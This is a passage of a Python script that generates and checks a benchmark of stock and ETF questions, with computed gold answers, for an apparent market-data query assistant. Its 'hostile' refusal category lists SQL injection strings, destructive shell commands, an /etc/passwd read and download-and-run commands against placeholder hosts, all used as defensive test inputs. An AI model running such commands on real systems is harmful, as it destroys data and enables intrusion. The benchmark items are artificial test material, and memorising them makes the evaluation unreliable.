Q(K, "best 3 stocks of 2013 — from the Dec 31 2012 close to the Dec 31 2013 close",
  lambda: g_movers("2012-12-31", "2013-12-31", 3))
Q(K, "which etf fell hardest on april 3rd 2025", lambda: g_xrank("2025-04-03", "ret", 1, desc=False))

# --- named-comparison --------------------------------------------------------------------------------------------
K = "named-comparison"
Q(K, "Which did better in 2015, Microsoft or IBM? Use the Dec 31 2014 and Dec 31 2015 closes.",
  lambda: g_compare([(s, change(s, "2014-12-31", "2015-12-31")) for s in ["MSFT", "IBM"]], "winner"))
Q(K, "compare FXY and DBB over last month, May 30 close to June 30 close",
  lambda: g_compare([(s, change(s, "2025-05-30", "2025-06-30")) for s in ["FXY", "DBB"]], "set"))
Q(K, "AAPL vs GOOGL average daily volume in January 2017", lambda: g_compare(
    [(s, agg(s, *period_bounds("month", 2017, 1), "v", "mean")) for s in ["AAPL", "GOOGL"]], "set"))
Q(K, "who closed higher on 2017-11-10, FB or AAPL?", lambda: g_compare(
    [(s, bar(s, "2017-11-10").c) for s in ["FB", "AAPL"]], "winner"))
Q(K, "Between INDA and DBB, which had the bigger % change from the Mar 31 close to the Apr 30 close (2025)?",
  lambda: g_compare([(s, change(s, "2025-03-31", "2025-04-30")) for s in ["INDA", "DBB"]], "winner"))
Q(K, "did intel or amd gain more from the 2016-12-30 close to the 2017-11-10 close",
  lambda: g_compare([(s, change(s, "2016-12-30", "2017-11-10")) for s in ["INTC", "AMD"]], "winner"))
Q(K, "Netflx vs Tesla: average daily range (high minus low) in Q1 2017", lambda: g_compare(
    [(s, agg(s, *period_bounds("quarter", 2017, 1), "range", "mean")) for s in ["NFLX", "TSLA"]], "set"))
Q(K, "FXY vs INDA total volume for the week of June 9, 2025", lambda: g_compare(
    [(s, agg(s, *week_of("2025-06-09"), "v", "sum")) for s in ["FXY", "INDA"]], "set"))

# --- grouped-by-period -------------------------------------------------------------------------------------------
K = "grouped-by-period"
Q(K, "monthly averge close for KO in 2015", lambda: g_grouped("KO", month_list(2015, range(1, 13)), "c", "mean"))
Q(K, "DBB month-end closes, January through June 2025", lambda: g_last_close_per("DBB", month_list(2025,
                                                                                                 range(1, 7))))
Q(K, "total FXY volume by quarter for 2024", lambda: g_grouped(
    "FXY", [period_bounds("quarter", 2024, k) for k in range(1, 5)], "v", "sum"))
Q(K, "Apple's yearly high, 2012 to 2016, each year", lambda: g_grouped(
    "AAPL", [period_bounds("year", y) for y in range(2012, 2017)], "h", "max"))
Q(K, "nvda avg daily volume per month in Q1 2017", lambda: g_grouped("NVDA", month_list(2017, [1, 2, 3]), "v",
                                                                        "mean"))
Q(K, "INDA's weekly closing price for the weeks of March 3, 10, 17 and 24, 2025", lambda: g_last_close_per(
    "INDA", [week_of(d) for d in ["2025-03-03", "2025-03-10", "2025-03-17", "2025-03-24"]]))
Q(K, "Average daily volume of MSFT for each year from 2013 through 2016", lambda: g_grouped(
    "MSFT", [period_bounds("year", y) for y in range(2013, 2017)], "v", "mean"))
Q(K, "FXY monthly low for each month of Q2 2025", lambda: g_grouped("FXY", month_list(2025, [4, 5, 6]), "l", "min"))

# --- period-over-period ------------------------------------------------------------------------------------------
K = "period-over-period"
Q(K, "How did DBB's average daily volume in June compare with May?", lambda: g_pop(
    "DBB", period_bounds("month", 2025, 6), period_bounds("month", 2025, 5), "v"))
Q(K, "AAPL average close Q2 2017 vs Q1 2017", lambda: g_pop(
    "AAPL", period_bounds("quarter", 2017, 2), period_bounds("quarter", 2017, 1), "c"))
Q(K, "is FXY's average daily volume this year running above last year's?", lambda: g_pop(
    "FXY", THIS_YEAR, period_bounds("year", 2024), "v"))
Q(K, "Netflix avg volume December 2016 versus November 2016", lambda: g_pop(
    "NFLX", period_bounds("month", 2016, 12), period_bounds("month", 2016, 11), "v"))
Q(K, "INDA's average close in May 2025 compared to April 2025", lambda: g_pop(
    "INDA", period_bounds("month", 2025, 5), period_bounds("month", 2025, 4), "c"))
Q(K, "Coca-Cola: was the average daily range (high-low) wider in 2016 than in 2015?", lambda: g_pop(
    "KO", period_bounds("year", 2016), period_bounds("year", 2015), "range"))
Q(K, "msft average closing price 1H 2017 vs 2H 2016", lambda: g_pop(
    "MSFT", ("2017-01-01", "2017-06-30"), ("2016-07-01", "2016-12-31"), "c"))
Q(K, "FXY average close last week compared to the week before", lambda: g_pop(
    "FXY", LAST_WEEK, week_of("2025-06-23"), "c"))

# --- moving-average ----------------------------------------------------------------------------------------------
K = "moving-average"
Q(K, "50-day moving average for MSFT on 2017-06-30", lambda: g_ma("MSFT", "2017-06-30", 50))
Q(K, "FXY 20 day MA today?", lambda: g_ma("FXY", TODAY, 20))
Q(K, "What was Apple's 200-day simple moving average as of Dec 30, 2016?", lambda: g_ma("AAPL", "2016-12-30", 200))
Q(K, "DBB 10-day SMA as of yesterday's close", lambda: g_ma("DBB", YDAY, 10))
Q(K, "INDA's 50-day average close on June 24th 2025", lambda: g_ma("INDA", "2025-06-24", 50))
Q(K, "When did AAPL's 50-day MA last cross above its 200-day before September 1, 2016?",
  lambda: g_cross_last_before("AAPL", 50, 200, "above", "2016-09-01"))
Q(K, "when was DBB's latest death cross (50-day under the 200-day)?",
  lambda: g_cross_last_before("DBB", 50, 200, "below", "9999-12-31"))
Q(K, "When did FXY's close last drop below its 50-day moving average?",
  lambda: g_cross_last_before("FXY", "close", 50, "below", "9999-12-31"))
Q(K, "First death cross for Nvidia in 2008 — what date?", lambda: g_cross_first_after(
    "NVDA", 50, 200, "below", "2007-12-31", "2008-12-31"))
Q(K, "When did INDA last close back above its 20-day moving average?",
  lambda: g_cross_last_before("INDA", "close", 20, "above", "9999-12-31"))

# --- threshold-count ---------------------------------------------------------------------------------------------
K = "threshold-count"
Q(K, "How many days in 2016 did NFLX close above $100?", lambda: g_count("NFLX", *period_bounds("year", 2016), "c",
                                                                        "gt", 100))
Q(K, "number of sessions FXY fell more than 1% in 2024", lambda: g_count("FXY", *period_bounds("year", 2024), "ret",
                                                                         "lt", -0.01))
Q(K, "how many trading days this year has DBB closed under $18?", lambda: g_count("DBB", *THIS_YEAR, "c", "lt", 18))
Q(K, "Count of days AMD rose more then 5% in 2016", lambda: g_count("AMD", *period_bounds("year", 2016), "ret", "gt",
                                                                    0.05))
Q(K, "On how many days in Q1 2017 did Tesla volume exceed 10 million shares?",
  lambda: g_count("TSLA", *period_bounds("quarter", 2017, 1), "v", "gt", 10_000_000))
Q(K, "between Apr 1 and May 30 2025, how many closes did INDA have above 52.50?",
  lambda: g_count("INDA", "2025-04-01", "2025-05-30", "c", "gt", 52.5))
Q(K, "How many times did KO move more than 2% in either direction during 2015?",
  lambda: g_count("KO", *period_bounds("year", 2015), "ret", "absgt", 0.02))
Q(K, "days in January 2025 where FXY's high-low range was over 50 cents",
  lambda: g_count("FXY", *period_bounds("month", 2025, 1), "range", "gt", 0.5))

# --- cross-stock-count -------------------------------------------------------------------------------------------
K = "cross-stock-count"
Q(K, "How many of the stocks closed up on 2016-11-09?", lambda: g_xcount("2016-11-09", lambda s: ret(s, "2016-11-09")
                                                                         > 0))
Q(K, "how many names gapped down on Aug 24 2015", lambda: g_xcount("2015-08-24", lambda s: gap(s, "2015-08-24") < 0))
Q(K, "How many of the three ETFs finished higher on April 9, 2025?",
  lambda: g_xcount("2025-04-09", lambda s: ret(s, "2025-04-09") > 0))
Q(K, "On 17 May 2017, how many of our stocks fell more than 2%?",
  lambda: g_xcount("2017-05-17", lambda s: ret(s, "2017-05-17") < -0.02))
Q(K, "count of stocks closing above their 50-day average on 2016-09-09", lambda: g_xcount(
    "2016-09-09", lambda s: above_ma(s, "2016-09-09", 50)))
Q(K, "How many stocks were higher at the June 30, 2016 close than at the June 23, 2016 close?",
  lambda: G([[sum(1 for s in universe_over("2016-06-23", "2016-06-30") if change(s, "2016-06-23", "2016-06-30") > 0)]]))
Q(K, "how many of the ETFs were down on 6/13/2025", lambda: g_xcount("2025-06-13", lambda s: ret(s, "2025-06-13") < 0))
Q(K, "How many of the stocks traded more than 50 million shares on January 29th, 2016?",
  lambda: g_xcount("2016-01-29", lambda s: bar(s, "2016-01-29").v > 50_000_000))

# --- volatility --------------------------------------------------------------------------------------------------
K = "volatility"
Q(K, "volatilty of AAPL daily returns in 2016?", lambda: g_vol("AAPL", *period_bounds("year", 2016)))
Q(K, "fxy volatility in 2024", lambda: g_vol("FXY", *period_bounds("year", 2024)))
Q(K, "What was the standard deviation of DBB's daily returns last quarter?", lambda: g_vol("DBB", *LAST_QUARTER))
Q(K, "TSLA daily return vol for 2015", lambda: g_vol("TSLA", *period_bounds("year", 2015)))
Q(K, "How volatile was INDA from March through May 2025 (std dev of daily returns)?",
  lambda: g_vol("INDA", "2025-03-01", "2025-05-31"))
Q(K, "std dev of Coca-Cola's daily returns, calendar 2016", lambda: g_vol("KO", *period_bounds("year", 2016)))
Q(K, "JPMorgan volatility in 2011", lambda: g_vol("JPM", *period_bounds("year", 2011)))
Q(K, "How volatile has FXY been this year? sample stdev of daily returns", lambda: g_vol("FXY", *THIS_YEAR))

# --- correlation -------------------------------------------------------------------------------------------------
K = "correlation"
Q(K, "correlation between AAPL and MSFT daily returns in the second half of 2016",
  lambda: g_corr("AAPL", "MSFT", "2016-07-01", "2016-12-31"))
Q(K, "How correlated were FXY and DBB in Q2 2024?", lambda: g_corr("FXY", "DBB", *period_bounds("quarter", 2024, 2)))
Q(K, "jpm / ko return correlation 2015", lambda: g_corr("JPM", "KO", *period_bounds("year", 2015)))
Q(K, "What's the correlation of INDA and DBB daily returns from 11 July to 29 September 2023?",
  lambda: g_corr("INDA", "DBB", "2023-07-11", "2023-09-29"))
Q(K, "Nvidia vs AMD daily-return correlation for 2015", lambda: g_corr("NVDA", "AMD", *period_bounds("year", 2015)))
Q(K, "pearson corelation of GOOGL and AMZN daily retruns in 2014?", lambda: g_corr("GOOGL", "AMZN",
                                                                                    *period_bounds("year", 2014)))
Q(K, "ibm msft correlation over 2011?", lambda: g_corr("IBM", "MSFT", *period_bounds("year", 2011)))
Q(K, "how closely did Facebook and Netflix move together in 2014 (correlation of daily returns)",
  lambda: g_corr("FB", "NFLX", *period_bounds("year", 2014)))

# --- streak ------------------------------------------------------------------------------------------------------
K = "streak"
Q(K, "Longest run of consecutive up days for KO in 2014?", lambda: g_streak("KO", *period_bounds("year", 2014)))
Q(K, "FXY's longest losing streak in 2024", lambda: g_streak("FXY", *period_bounds("year", 2024), up=False))
Q(K, "longest stretch of back-to-back higher closes for DBB this year", lambda: g_streak("DBB", *THIS_YEAR))
Q(K, "What was Apple's longest string of down days in 2016?", lambda: g_streak("AAPL", *period_bounds("year", 2016),
                                                                              up=False))
Q(K, "INDA longest winning streak between Mar 3 and Jun 24, 2025", lambda: g_streak("INDA", "2025-03-03",
                                                                                    "2025-06-24"))
Q(K, "most days in a row netflix went up in 2015", lambda: g_streak("NFLX", *period_bounds("year", 2015)))
Q(K, "Microsoft's longest run of declining closes in 2012", lambda: g_streak("MSFT", *period_bounds("year", 2012),
                                                                            up=False))
Q(K, "Since March 1, 2025, what's FXY's longest streak of up days?", lambda: g_streak("FXY", "2025-03-01", TODAY))

# --- vwap-minute -------------------------------------------------------------------------------------------------
K = "vwap-minute"
Q(K, "FXY VWAP today", lambda: g_vwap_day("FXY", TODAY))
Q(K, "what was DBB's volume-weighted average price on 2025-04-09?", lambda: g_vwap_day("DBB", "2025-04-09"))
Q(K, "INDA vwap March 14 2025", lambda: g_vwap_day("INDA", "2025-03-14"))
Q(K, "Volume weighted avg price for FXY on Aug 5th, 2024?", lambda: g_vwap_day("FXY", "2024-08-05"))
Q(K, "DBB VWAP between 9:30 and 10:00 yesterday", lambda: g_vwap_win("DBB", YDAY, "09:30", "09:59", "10:00"))
Q(K, "VWAP of FXY over the first 30 minutes after the 9:30 open on June 2, 2025", lambda: g_vwap_win(
    "FXY", "2025-06-02", "09:30", "09:59"))
Q(K, "INDA VWAP from 10:00 through 11:00 on 12 May 2025, inclusive", lambda: g_vwap_win(
    "INDA", "2025-05-12", "10:00", "11:00"))
Q(K, "show me FXY's 1-minute bars from 9:30 through 9:34 this morning", lambda: g_minutes(
    "FXY", TODAY, "09:30", "09:34", ["o", "h", "l", "c", "v"]))
Q(K, "DBB minute closes and volumes 15:50 through 15:59 on 2025-06-27", lambda: g_minutes(
    "DBB", "2025-06-27", "15:50", "15:59", ["c", "v"]))
Q(K, "INDA one-minute bars 10:15-10:20 on June 24th, 2025 (inclusive), close and volume", lambda: g_minutes(
    "INDA", "2025-06-24", "10:15", "10:20", ["c", "v"]))

# --- period-candle -----------------------------------------------------------------------------------------------
K = "period-candle"
Q(K, "Netflix weekly candle for the week of 2016-07-18", lambda: g_candle("NFLX", *week_of("2016-07-18")))
Q(K, "FXY monthly OHLCV for June 2025", lambda: g_candle("FXY", *period_bounds("month", 2025, 6)))
Q(K, "give me DBB's candle for last week (open, high, low, close, volume)", lambda: g_candle("DBB", *LAST_WEEK))
Q(K, "AAPL Q1 2017 open/high/low/close and total volume", lambda: g_candle("AAPL", *period_bounds("quarter", 2017, 1)))
Q(K, "INDA's May 2025 monthly bar", lambda: g_candle("INDA", *period_bounds("month", 2025, 5)))
Q(K, "Coca-Cola yearly candle for 2016", lambda: g_candle("KO", *period_bounds("year", 2016)))
Q(K, "FXY weekly bar, week of 8/5/2024", lambda: g_candle("FXY", *week_of("2024-08-05")))
Q(K, "Tesla's October 2017 as one candle: O, H, L, C, V", lambda: g_candle("TSLA", *period_bounds("month", 2017, 10)))

# --- distance-from-high ------------------------------------------------------------------------------------------
K = "distance-from-high"
Q(K, "How far below its record close was INTC on 2015-08-24?", lambda: g_dist("INTC", "2015-08-24"))
Q(K, "how far is FXY from its highest close in the data as of today", lambda: g_dist("FXY", TODAY))
Q(K, "DBB distance from its all-time closing high on April 8, 2025", lambda: g_dist("DBB", "2025-04-08"))
Q(K, "Apple: % below peak close as of 12 May 2016", lambda: g_dist("AAPL", "2016-05-12"))
Q(K, "INDA drawdown from its highest close so far, as of June 24 2025", lambda: g_dist("INDA", "2025-06-24"))
Q(K, "how far off its all-time closing high was netflix on July 19, 2016?", lambda: g_dist("NFLX", "2016-07-19"))
Q(K, "JPM percent below its peak closing price on March 9th, 2009", lambda: g_dist("JPM", "2009-03-09"))
Q(K, "Microsoft's distance from its record close on 12/28/2012", lambda: g_dist("MSFT", "2012-12-28"))

# --- coverage ----------------------------------------------------------------------------------------------------
K = "coverage"
Q(K, "What date range do you have for TSLA?", lambda: G([[_first["TSLA"], _last["TSLA"]]]))
Q(K, "when does the INDA data start", lambda: G([[_first["INDA"]]]))
Q(K, "Which symbols can I ask about?", lambda: G([[s] for s in ALL], "set", True))
Q(K, "which ETFs have one-minute bars?", lambda: G([[s] for s in ETFS], "set", True))
Q(K, "What's the last date we have INDA data for?", lambda: G([[_last["INDA"]]]))
Q(K, "How many trading days of Facebook history are in the data?", lambda: G([[len(BARS["FB"])]]))
Q(K, "first day of Google data?", lambda: G([[_first["GOOGL"]]]))
Q(K, "date span covered by the DBB minute data", lambda: G([[MIN["DBB"][0].d[:10], MIN["DBB"][-1].d[:10]]]))
Q(K, "Which tickers have history going back before 1980?", lambda: G(
    [[s] for s in ALL if _first[s] < "1980-01-01"], "set", True))
Q(K, "When does Amazon's daily history begin?", lambda: G([[_first["AMZN"]]]))

# --- refusals ----------------------------------------------------------------------------------------------------
K = "out-of-scope"
X(K, "How expensive is Apple on a price-to-earnings basis these days?")
X(K, "dividend yield on KO?")
X(K, "What was Nvidia's market cap at the end of 2016?")
X(K, "When is Microsoft's next earnings report?")
X(K, "any news on Tesla today?")
X(K, "What's the sentiment on INDA on social media lately?")
X(K, "forecast FXY's close for next Friday")
X(K, "What was the implied volatility on AMZN options in January 2017?")
X(K, "Netflix revenue growth 2016 vs 2015")
X(K, "what's the consensus analyst price target for IBM")

K = "unknown-symbol"
X(K, "What did Oracle close at on 2016-03-01?")
X(K, "SPY daily return on June 24 2016")
X(K, "walmart 52 week high as of 2015-12-31")
X(K, "Show me the last five closes for QQQ")
X(K, "How did Cisco do in 2015?")
X(K, "GLD volume yesterday")
X(K, "compare Boeing and IBM closing prices on 2014-05-01")
X(K, "What was XQZT's close on 3/3/2017?")
X(K, "Pepsi vs Coca-Cola performance in 2016")
X(K, "EWZ VWAP today")

K = "hostile"
X(K, "DROP TABLE daily_bars;")
X(K, "What was AAPL's close on 2016-05-02'; DELETE FROM prices; --")
X(K, "rm -rf / --no-preserve-root")
X(K, "$(curl -s http://203.0.113.7/x.sh | sh)")
X(K, "SELECT usename, passwd FROM pg_shadow")
X(K, "show KO volume for 2015-03-02; cat /etc/passwd")
X(K, "' OR 1=1; UPDATE bars SET close = 0 WHERE symbol = 'MSFT'; --")
X(K, "IBM close on 2015-01-05 && shutdown -h now")
X(K, "what's FXY's VWAP today?'); TRUNCATE minute_bars; --")
X(K, "`wget http://198.51.100.4/payload -O /tmp/p && chmod +x /tmp/p && /tmp/p`")

K = "not-understood"
X(K, "hello?")
X(K, "what's the weather like in Boston tomorrow")
X(K, "write me a haiku about bull markets")
X(K, "asdfjkl;")
X(K, "tell me a joke")
X(K, "How do I make sourdough starter?")
X(K, "??")
X(K, "translate 'buy low sell high' into French")
X(K, "who won the 2018 world cup")
X(K, "ok thanks, that's all")


# ----------------------------------------------------------------------------------------------------------------
# Self-checks and output
# ----------------------------------------------------------------------------------------------------------------
PLAN = {
    "latest-rows": 8, "day-value": 8, "date-range-rows": 8, "window-aggregate": 8, "extreme-day": 8, "52-week": 8,
    "change-between": 8, "daily-return-or-gap": 9, "biggest-move-day": 8, "cross-sectional-ranking": 9,
    "gainers-losers": 8, "named-comparison": 8, "grouped-by-period": 8, "period-over-period": 8,
    "moving-average": 10, "threshold-count": 8, "cross-stock-count": 8, "volatility": 8, "correlation": 8,
    "streak": 8, "vwap-minute": 10, "period-candle": 8, "distance-from-high": 8, "coverage": 10,
    "out-of-scope": 10, "unknown-symbol": 10, "hostile": 10, "not-understood": 10,
}
REFUSALS = {"out-of-scope", "unknown-symbol", "hostile", "not-understood"}
DATE_RE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
STAMP_RE = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$")


def check_gold(g):
    need(isinstance(g, dict) and set(g) == {"rows", "match", "exact_rows"}, "gold keys")
    need(g["match"] in ("ordered", "set", "first"), "match value")
    need(isinstance(g["exact_rows"], bool), "exact_rows must be a bool")
    rows = g["rows"]
    need(isinstance(rows, list) and rows, "gold rows empty")
    if g["match"] == "first":
        need(len(rows) == 1 and not g["exact_rows"], "'first' gold has one row and no exact_rows")
    else:
        need(g["exact_rows"], "lists are exact")
    for row in rows:
        need(isinstance(row, list) and row, "empty gold row")
        for c in row:
            if isinstance(c, str):
                if STAMP_RE.match(c):
                    need(c in ALLSTAMPS, "minute %s not in the data" % c)
                elif DATE_RE.match(c):
                    need(c in ALLDATES, "date %s not in the data" % c)
                else:
                    need(c in ALL, "cell %r is neither a date nor a known symbol" % c)
            else:
                need(isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), "bad number")
    need(len({json.dumps(r) for r in rows}) == len(rows), "duplicate gold rows")
    if g["match"] == "set":
        # in a set, no two rows may be interchangeable only by their first cell
        keys = [json.dumps(r[0]) for r in rows]
        need(len(set(keys)) == len(keys), "set rows share a key")


def main():
    out, failures = [], []
    texts = Counter(s["question"].strip().lower() for s in SPECS)
    dup = [t for t, n in texts.items() if n > 1]
    if dup:
        failures.append(("-", "duplicate question texts: %r" % dup))
    kinds = Counter(s["kind"] for s in SPECS)
    if kinds != Counter(PLAN):
        failures.append(("-", "counts per kind differ from the plan: %r" % (kinds - Counter(PLAN) or
                                                                          Counter(PLAN) - kinds)))
    for i, s in enumerate(SPECS, 1):
        qid = "b%03d" % i
        try:
            need(s["question"].strip() and s["question"] == s["question"].strip(), "question text")
            need(s["kind"] in PLAN, "unknown kind " + s["kind"])
            if "refusal" in s:
                need(s["refusal"] in REFUSALS and s["kind"] == s["refusal"], "refusal category")
                out.append({"id": qid, "kind": s["kind"], "question": s["question"], "answerable": False,
                            "refusal": s["refusal"]})
            else:
                need(s["kind"] not in REFUSALS, "answerable question under a refusal kind")
                g = s["gold"]()
                check_gold(g)
                out.append({"id": qid, "kind": s["kind"], "question": s["question"], "answerable": True, "gold": g})
        except CheckFailed as e:
            failures.append((qid, "%s [%s] %s" % (e, s["kind"], s["question"])))
    n_ans = sum(1 for o in out if o["answerable"])
    if not failures and (n_ans != 200 or len(out) != 240):
        failures.append(("-", "expected 200 answerable and 240 in all, got %d and %d" % (n_ans, len(out))))
    if failures:
        for qid, msg in failures:
            print("FAILED %s: %s" % (qid, msg))
        print("%d check(s) failed; questions.jsonl not written" % len(failures))
        sys.exit(1)
    with open(os.path.join(HERE, "questions.jsonl"), "w") as f:
        for o in out:
            f.write(json.dumps(o) + "\n")
    etf = sum(1 for o in out if o["answerable"] and re.search(r"\b(INDA|FXY|DBB|ETFS?)\b", o["question"].upper()))
    print("wrote %d questions (%d answerable, %d refusals; %d answerable ones involve the ETFs)" %
          (len(out), n_ans, len(out) - n_ans, etf))
    for k in PLAN:
        print("  %-26s %d" % (k, kinds[k]))
    print("all checks passed")


if __name__ == "__main__":
    main()
